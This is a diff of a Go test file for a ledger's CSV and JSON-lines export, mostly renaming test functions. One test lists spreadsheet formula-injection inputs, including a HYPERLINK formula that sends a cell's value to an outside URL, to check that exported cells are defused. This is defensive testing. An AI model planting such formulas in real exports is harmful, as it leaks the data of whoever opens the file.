@@ -50,7 +50,7 @@ func export(t *testing.T, book *memory, q ledger.Query, format inspect.Format) s
 	return out.String()
 }
 
-func TestTheCSVIsTheOneOnRecord(t *testing.T) {
+func TestExportCSV(t *testing.T) {
 	got := export(t, onRecord(t), ledger.Query{}, inspect.CSV)
 	if *update {
 		require.NoError(t, os.WriteFile("testdata/export.csv", []byte(got), 0o600))
@@ -62,7 +62,8 @@ func TestTheCSVIsTheOneOnRecord(t *testing.T) {
 	}
 }
 
-func TestJSONLinesAreWholeRecordsTheNewestFirst(t *testing.T) {
+// JSON lines are whole records, the newest first.
+func TestExportJSONLines(t *testing.T) {
 	want, err := os.ReadFile("testdata/records.jsonl")
 	require.NoError(t, err)
 	if diff := cmp.Diff(string(want), export(t, onRecord(t), ledger.Query{}, inspect.JSONLines)); diff != "" {
@@ -70,7 +71,7 @@ func TestJSONLinesAreWholeRecordsTheNewestFirst(t *testing.T) {
 	}
 }
 
-func TestACellIsNoFormula(t *testing.T) {
+func TestCSVHasNoFormula(t *testing.T) {
 	for _, text := range []string{
 		`=HYPERLINK("http://example.com/?"&A1,"look")`, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1", "＋1", "－1", "＠1", "'=1",
 	} {
@@ -92,14 +93,16 @@ func TestACellIsNoFormula(t *testing.T) {
 	}
 }
 
-func TestAnExportOfNothingHasAHeaderInCSVAlone(t *testing.T) {
+// An export of nothing has a header in CSV only.
+func TestExportNothing(t *testing.T) {
 	header := export(t, &memory{}, ledger.Query{}, inspect.CSV)
 	require.True(t, strings.HasPrefix(header, "transactionID,startTime,endTime,"), header)
 	require.Equal(t, 1, strings.Count(header, "\n"))
 	require.Empty(t, export(t, &memory{}, ledger.Query{}, inspect.JSONLines))
 }
 
-func TestAnExportHoldsWhatWasAskedFor(t *testing.T) {
+// An export holds what was asked for.
+func TestExportQuery(t *testing.T) {
 	book := &memory{}
 	book.put(*paid("paid"))
 	book.put(*waiting("waiting"))
@@ -121,7 +124,7 @@ func TestAnExportHoldsWhatWasAskedFor(t *testing.T) {
 	}
 }
 
-func TestAnExportGoesByPages(t *testing.T) {
+func TestExportPages(t *testing.T) {
 	book := &memory{}
 	for i := range 1200 {
 		book.put(*paid(fmt.Sprintf("%04d", i)))
@@ -133,7 +136,8 @@ func TestAnExportGoesByPages(t *testing.T) {
 	}
 }
 
-func TestAStoppedExportEndsWithAWholeLine(t *testing.T) {
+// An export that is stopped ends with a whole line.
+func TestExportStopped(t *testing.T) {
 	book := &memory{}
 	for i := range 1000 {
 		book.put(*paid(fmt.Sprintf("%04d", i)))
@@ -157,7 +161,7 @@ func TestAStoppedExportEndsWithAWholeLine(t *testing.T) {
 	}
 }
 
-func TestAnExportThatCannotBeWrittenFails(t *testing.T) {
+func TestExportWriteError(t *testing.T) {
 	full := errors.New("no space left on device")
 	book := &memory{}
 	book.put(*paid("1"))
@@ -202,7 +206,7 @@ func readCSV(t *testing.T, text string) []map[string]string {
 }
 
 // The file of records is made once and then stays the same: otherwise its times would change every day.
-func TestTheRecordsFillEveryColumn(t *testing.T) {
+func TestSamplesFillEveryColumn(t *testing.T) {
 	lines := readCSV(t, export(t, onRecord(t), ledger.Query{}, inspect.CSV))
 	for name := range lines[0] {
 		filled := false
